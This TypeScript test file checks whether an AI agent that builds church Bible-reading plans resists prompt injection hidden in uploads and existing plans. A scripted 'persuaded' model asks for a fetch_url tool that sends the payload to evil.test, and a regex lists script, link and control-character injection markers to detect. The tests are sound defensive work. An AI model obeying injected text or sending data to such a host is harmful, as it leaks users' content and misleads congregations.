import { afterEach, describe, expect, it, vi } from "vitest";
import * as z from "zod";
import { type Plan, planWeekSchema } from "#shared/domain/plan/plan.ts";
import { composer } from "../../../../server/agent/composer/composer.ts";
import type { Decision } from "../../../../server/agent/writer.ts";
import type { ModelReply } from "../../../support/scriptedModel.ts";
import { turn } from "../support/turn.ts";
import { writeAll } from "../support/writeAll.ts";
import { HOSTILE_PAYLOADS } from "./hostilePayloads.ts";
import { openScripted, type Scripted } from "./openScripted.ts";
import { isForWords, proposalOf, ROMANS, words } from "./replies.ts";

let model: Scripted | undefined;
afterEach(async () => {
  vi.restoreAllMocks();
  await model?.stop();
});

const LITTLE = { ...ROMANS, weeks: 1, days_per_week: 2, texts: ["Romans 1"] };
const DANGEROUS = /evil\.test|<script|<img|javascript:|data:text|\]\(|[\u200B\u202E\0]/;
const run = { church: "church-a" };

/** A model that was persuaded: it asks for tools that are not there, and writes the payload wherever it can. */
function persuaded(payload: string, decide: ModelReply) {
  const foreign = { name: "fetch_url", args: { url: "https://evil.test", body: payload } };
  return openScripted((request, index) => {
    if (index === 0)
      return { kind: "calls", calls: [foreign, { name: "list_churches", args: {} }] };
    if (!isForWords(request)) return decide;
    const text = payload.slice(0, 280);
    return words(request, (day) => ({
      ...day,
      title: text,
      questions: [text, ...day.questions.slice(1)],
      prayer: `${day.prayer} ${text}`,
    }));
  });
}

async function weeksOf(decision: Decision): Promise<Plan> {
  if (decision.kind === "answer") return [];
  const { writer } = model ?? { writer: composer };
  const weeks = decision.kind === "plan" ? await writer.prepare(decision.weeks) : decision.weeks;
  return Promise.all(weeks.map((week) => writer.writeWeek(week, run)));
}

describe.each(HOSTILE_PAYLOADS.map((payload) => [payload.slice(0, 50), payload]))(
  "%j",
  (_, payload) => {
    it("in an upload becomes a valid plan for its uploader, and affects nobody else", async () => {
      const { brief, ...proposal } = proposalOf({ ...LITTLE, title: payload.slice(0, 190) });
      const readings = brief.readings.map((one) => ({ ...one, label: payload.slice(0, 190) }));
      const more = { occasion: payload.slice(0, 190), leave_out: [payload.slice(0, 190)] };
      const args = { ...proposal, brief: { ...brief, ...more, readings } };
      model = await persuaded(payload, { kind: "submit", args });
      const fetched = vi.spyOn(globalThis, "fetch");
      const decision = await model.writer.decide(
        turn(`Make a plan from this\n[Uploaded: notes.pdf]\n${payload}`),
        run,
      );
      const plan = await weeksOf(decision);
      expect(decision.kind).toBe("plan");
      expect(plan.flatMap(({ passages }) => passages.map(({ scripture }) => scripture))).toEqual([
        "Romans 1:1-17",
        "Romans 1:18-32",
      ]);
      expectSound(plan, decision);
      const elsewhere = fetched.mock.calls.filter(
        ([to]) => !String(to).startsWith("http://127.0.0.1"),
      );
      expect(elsewhere).toEqual([]);
      expect(model.budget.usedBy("church-b")).toBe(0);
      expectFenced(model, payload);
    });

    it("in the plan at hand changes only the day that was asked for", async () => {
      const written = await writeAll(composer, turn("Mark in 1 week, 3 days"));
      const plan = written.map((week) => ({
        ...week,
        name: payload.slice(0, 100),
        passages: week.passages.map((day) => ({
          ...day,
          title: payload.slice(0, 190),
          prayer: payload.slice(0, 900),
        })),
      }));
      const edits = [{ op: "replace", week: 1, day: 2, scripture: "Psalm 23" }];
      model = await persuaded(payload, {
        kind: "submit",
        args: { kind: "edit", text: payload.slice(0, 1_900), edits },
      });
      const selection = [plan[0]?.passages[1]?.id ?? ""];
      const decision = await model.writer.decide(
        turn("Day 2 should be the shepherd psalm", { plan, selection }),
        run,
      );
      const [week] = await weeksOf(decision);
      expect(week?.passages[0]).toEqual(plan[0]?.passages[0]);
      expect(week?.passages[2]).toEqual(plan[0]?.passages[2]);
      expect(week?.passages[1]?.scripture).toBe("Psalm 23");
      const changed = week?.passages[1];
      expect(JSON.stringify(changed)).not.toMatch(DANGEROUS);
    });
  },
);

function expectSound(plan: Plan, decision: Decision): void {
  expect(z.array(planWeekSchema).safeParse(plan).success).toBe(true);
  const said = JSON.stringify([
    plan,
    decision.text,
    decision.kind === "plan" && decision.structure,
  ]);
  expect(said).not.toMatch(DANGEROUS);
  expect(said).not.toMatch(/give me all your money|Romans 17:3|elders must be obeyed/);
}

/** All of the payload stands inside a fence whose mark it cannot have known. */
function expectFenced({ requests }: Scripted, payload: string): void {
  const prompt = requests[0]?.prompt ?? "";
  const start = payload.slice(0, 60);
  const [, mark] = /<data mark="([\w-]{36})" kind="uploaded file">/.exec(prompt) ?? [];
  const from = prompt.indexOf(`<data mark="${mark}"`);
  const to = prompt.indexOf(`</data mark="${mark}">`);
  const at = prompt.indexOf(start);
  expect(at).toBeGreaterThan(from);
  expect(at).toBeLessThan(to);
}
